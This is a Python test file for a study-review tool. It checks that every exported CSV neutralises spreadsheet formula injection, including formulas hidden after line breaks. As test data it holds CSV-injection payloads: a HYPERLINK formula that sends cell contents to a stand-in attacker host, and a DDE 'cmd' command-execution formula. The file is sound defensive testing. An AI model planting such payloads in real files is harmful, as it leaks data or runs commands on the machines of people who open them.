"""CSV injection: no exported cell is a formula a spreadsheet would run (issue 15).

The attack: ids, rationales, justifications and findings are text from run records and
reviewers; a cell such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` or
``=cmd|' /C calc'!A0`` in an exported CSV runs when someone opens the file in Excel,
LibreOffice Calc or Google Sheets. OWASP's advice (owasp.org/www-community/attacks/CSV_Injection):
a cell must not begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return; prefix such a
cell with a single quote. ASVS 5.0 requirement 1.2.10 adds NUL. Numbers are decided by the
column's type, not by their look: a negative figure stays a number.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest
import sqlite_utils

from abp_tui.export import verify
from abp_tui.models import Finding, Judgment, PreferenceChoice, ResponseJudgment, StudyDesign
from abp_tui.services.designing import create_design
from abp_tui.services.importing import import_paths
from abp_tui.services.publishing import export_bundle
from abp_tui.services.results_report import unblind
from abp_tui.services.reviewing import ReviewSession
from abp_tui.services.stations import merge_ratings, open_pack, write_ratings, write_study_pack
from abp_tui.store import connect
from abp_tui.text.csvsafe import (
    FORMULA_STARTS,
    LINE_BREAKS,
    Figure,
    csv_text,
    neutralise,
    safe_cell,
)
from tests.factories import AFP_DIMS, GATE, Cli, write_jsonl

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "\t=cmd|' /C calc'!A0"
JUSTIFICATION = "-2+3+cmd|' /C calc'!A0"
REVIEWER = "=reviewer"
FINDING_TITLE = "+title"
FINDING_ID = "@F1"


# -- the helper ------------------------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\x00"])
def test_a_text_cell_that_starts_a_formula_gets_a_quote(start: str) -> None:
    text = f"{start}SUM(A1:A9)"
    assert neutralise(text) == "'" + text
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "plain", "'=already quoted", " =1", "1-2", "a=b", "漢字"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_are_decided_by_type_not_by_their_look() -> None:
    # A number (or a number formatted by the export) stays a number a spreadsheet can add up;
    # the same characters in a text column are text, and a spreadsheet must show them as text.
    assert safe_cell(-0.25) == "-0.25"
    assert safe_cell(-3) == "-3"
    assert safe_cell(Figure("-0.25")) == "-0.25"
    assert safe_cell("-0.25") == "'-0.25"
    assert safe_cell(None) == ""
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\x00"}
    rows = list(csv.reader(io.StringIO(csv_text(["=h", "n"], [["=1+1", -1.5]]))))
    assert rows == [["'=h", "n"], ["'=1+1", "-1.5"]]


# -- every CSV an export writes --------------------------------------------------------------------
def _hostile_study(tmp_path: Path, db: sqlite_utils.Database) -> int:
    """Ids, labels, rationales, a justification and a finding that are formulas; condition -C
    uses more tokens than +A, so the efficiency table holds a negative figure. Unblinded."""
    lines: list[dict[str, object]] = [
        {"type": "study", "id": "s", "rubric_id": "afp-v0.1"},
        {"type": "condition", "id": "+A", "label": "@SUM(1+1)"},
        {"type": "condition", "id": "-C", "label": "=1+1"},
    ]
    for task in ("=T1", "@T2"):
        lines.append({"type": "task", "id": task, "prompt": LINK, "fatal_criteria": ["=fatal"]})
        for cond in ("+A", "-C"):
            lines.append(
                {
                    "type": "run",
                    "id": f"{task}{cond}",
                    "task_id": task,
                    "condition_id": cond,
                    "output": LINK,
                    "tokens": {"input": 100, "output": 50 if cond == "-C" else 10},
                }
            )
    import_paths(db, [write_jsonl(tmp_path / "s.jsonl", lines)])
    pk = create_design(
        db,
        StudyDesign(study="s", name="m", seed=3, contrasts=[("-C", "+A")], reviewers=[REVIEWER]),
    ).pk
    session = ReviewSession(db, pk, REVIEWER)
    good = ResponseJudgment(scores={d: 2 for d in AFP_DIMS})
    bad = ResponseJudgment(
        scores={d: 0 for d in AFP_DIMS}, rationales={d: COMMAND for d in AFP_DIMS}
    )
    for row in session.queue():
        judgment = Judgment(
            responses={"1": good, "2": bad},
            preference=PreferenceChoice.RESPONSE_1,
            justification=JUSTIFICATION,
            validity=GATE,
        )
        session.save(row.code, judgment, 5, submit=True)
    code = session.queue()[0].code
    session.record_finding(
        code,
        Finding(id=FINDING_ID, title=FINDING_TITLE, severity="high", layer="model", actual="\rx"),
    )
    unblind(db, "s", "coordinator")
    return pk


def _cells(folder: Path) -> dict[str, list[list[str]]]:
    return {
        p.relative_to(folder).as_posix(): list(csv.reader(io.StringIO(p.read_text("utf-8"))))
        for p in sorted(folder.rglob("*.csv"))
    }


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def test_no_exported_cell_is_a_formula_and_verify_still_rederives(
    tmp_path: Path, db: sqlite_utils.Database
) -> None:
    pk = _hostile_study(tmp_path, db)
    result = export_bundle(db, pk, tmp_path / "bundle")
    tables = _cells(result.folder)
    assert "results/judgments.csv" in tables and "results/findings.csv" in tables
    every = [cell for rows in tables.values() for row in rows for cell in row]
    # The attack's cells are all there, each shown as text (one quote before it).
    for text in (COMMAND, JUSTIFICATION, REVIEWER, FINDING_TITLE, "=T1", "@T2", "+A", "-C"):
        assert "'" + text in every, text
    assert any(c.startswith(f"'{FINDING_ID}") for c in every)
    # Nothing begins like a formula but a number, and a negative figure is still a number.
    formulas = [
        (name, cell)
        for name, rows in tables.items()
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _is_number(cell)
    ]
    assert formulas == []
    efficiency = tables["results/efficiency.csv"]
    difference = efficiency[0].index("relative_median_difference")
    assert float(efficiency[1][difference]) < 0
    assert efficiency[1][difference].startswith("-")
    # The bundle re-derives to the same bytes (the same writer made them).
    for path in (result.folder, result.zip_path):
        assert verify(path).derived >= 10


def test_the_judgments_export_of_the_cli_is_neutralised(tmp_path: Path, cli: Cli) -> None:
    db = connect(cli.db_path)
    try:
        _hostile_study(tmp_path, db)
    finally:
        db.close()
    out = tmp_path / "judgments.csv"
    result = cli("export", "judgments", "--study", "s", "--out", out)
    assert result.code == 0, result.err
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8"))))
    header = rows[0]
    justification = header.index("justification")
    rationale = next(i for i, name in enumerate(header) if name.startswith("rationale:"))
    assert {row[justification] for row in rows[1:]} == {"'" + JUSTIFICATION}
    assert "'" + COMMAND in {row[rationale] for row in rows[1:]}
    assert not [
        c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not _is_number(c)
    ]


# -- issue 27: formulas after a line break (a bare CR above all) ---------------------------------
def _formula_lines(text: str) -> list[str]:
    """The lines of ``text``, split as a naive reader would (on LF, on CR, and on every break
    ``str.splitlines`` knows), that begin like a formula; a row whose first cell is a number
    (a negative figure) is not one."""
    lines = text.split("\n") + text.split("\r") + text.splitlines()
    return [
        line
        for line in lines
        if line.startswith(FORMULA_STARTS) and not _is_number(line.split(",")[0])
    ]


def _read_back(text: str) -> list[list[str]]:
    """The rows a CSV reader finds in ``text`` (no newline translation: a CR stays a CR)."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("brk", list(LINE_BREAKS), ids=[f"U+{ord(c):04X}" for c in LINE_BREAKS])
def test_a_formula_after_any_line_break_is_neutralised_and_the_cell_kept_whole(brk: str) -> None:
    text = f"ok{brk}@SUM(1){brk}{brk}=1+1{brk}plain"
    written = csv_text(["text", "n", f"head{brk}-x"], [[text, -2.5, "last"]])
    assert _formula_lines(written) == []
    shown = f"ok{brk}'@SUM(1){brk}{brk}'=1+1{brk}plain"
    assert _read_back(written) == [["text", "n", f"head{brk}'-x"], [shown, "-2.5", "last"]]
    # The CR/LF pair is one break: the quote goes after it, not between its characters.
    assert neutralise("a\r\n@b") == "a\r\n'@b"


def _cr_study(tmp_path: Path, db: sqlite_utils.Database) -> tuple[int, list[str]]:
    """A study whose task's fatal criterion has a formula after a CR, judged on a reviewer
    station (rationale ``ok\\r@SUM(1)``, the criterion ticked) and merged; unblinded."""
    lines: list[dict[str, object]] = [
        {"type": "study", "id": "s", "rubric_id": "afp-v0.1"},
        {"type": "condition", "id": "A"},
        {"type": "condition", "id": "C"},
        {"type": "task", "id": "T1", "prompt": "p", "fatal_criteria": [CR_CRITERION]},
    ]
    for cond in ("A", "C"):
        lines.append({"type": "run", "id": f"T1-{cond}", "task_id": "T1", "condition_id": cond})
    import_paths(db, [write_jsonl(tmp_path / "s.jsonl", lines)])
    pk = create_design(
        db,
        StudyDesign(
            study="s",
            name="m",
            seed=3,
            contrasts=[("C", "A")],
            reviewers=["a", "b"],
            reviewers_per_item=2,
        ),
    ).pk
    judgment = Judgment(
        responses={
            "1": ResponseJudgment(
                scores=dict.fromkeys(AFP_DIMS, 1),
                rationales=dict.fromkeys(AFP_DIMS, CR_RATIONALE),
                fatal_hits=(CR_CRITERION,),
            ),
            "2": ResponseJudgment(scores=dict.fromkeys(AFP_DIMS, 2)),
        },
        preference=PreferenceChoice.RESPONSE_2,
        justification="fine\u2028=1+1",
        validity=GATE,
    )
    codes = []
    for reviewer in ("a", "b"):
        pack = tmp_path / f"{reviewer}.pack.json"
        write_study_pack(db, pk, reviewer, pack)
        station = connect(tmp_path / f"{reviewer}.db")
        session = ReviewSession(station, open_pack(station, pack), reviewer)
        codes = [r.code for r in session.queue()]
        session.save(codes[0], judgment, 30, submit=True)
        write_ratings(station, tmp_path / f"{reviewer}.ratings.json")
        station.close()
        merge_ratings(db, [tmp_path / f"{reviewer}.ratings.json"])
    unblind(db, "s", "coordinator")
    return pk, codes


CR_RATIONALE = "ok\r@SUM(1)"
CR_CRITERION = 'Leaks the key.\r=HYPERLINK("http://evil.example")'


def test_a_cr_merged_from_a_station_starts_no_formula_in_any_exported_csv(
    tmp_path: Path, db: sqlite_utils.Database, cli: Cli
) -> None:
    pk, _codes = _cr_study(tmp_path, db)
    bundle = export_bundle(db, pk, tmp_path / "bundle")
    texts = {
        p.relative_to(bundle.folder).as_posix(): p.read_bytes().decode("utf-8")
        for p in sorted(bundle.folder.rglob("*.csv"))
    }
    db.close()
    out = tmp_path / "judgments.csv"
    result = cli("export", "judgments", "--db", tmp_path / "test.db", "--study", "s", "--out", out)
    assert result.code == 0, result.err
    texts["export judgments"] = out.read_bytes().decode("utf-8")
    assert "results/agreement.csv" in texts and "results/judgments.csv" in texts
    for name, text in texts.items():
        assert _formula_lines(text) == [], name
        rows = _read_back(text)
        assert all(len(row) == len(rows[0]) for row in rows), name  # no row broken in two
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    # What was written is there, each line of it shown as text.
    for name in ("export judgments", "results/judgments.csv"):
        shown = {c for row in _read_back(texts[name]) for c in row}
        assert "ok\r'@SUM(1)" in shown and "fine\u2028'=1+1" in shown, name
    agreement = {c for row in _read_back(texts["results/agreement.csv"]) for c in row}
    assert any("Leaks the key.\r'=HYPERLINK" in c for c in agreement)
    # The bundle still re-derives to the same bytes.
    assert verify(bundle.folder).derived >= 10


def test_every_csv_the_program_writes_goes_through_csvsafe() -> None:
    # Python's writer leaves a bare CR unquoted (rows ending in LF) and knows nothing of
    # formulas: no module writes CSV but through abp_tui.text.csvsafe, which uses neither it
    # nor anything else.
    package = Path(__file__).resolve().parent.parent / "abp_tui"
    writers = [
        path.relative_to(package).as_posix()
        for path in sorted(package.rglob("*.py"))
        if any(w in path.read_text("utf-8") for w in ("csv.writer", "csv.DictWriter"))
    ]
    assert writers == []
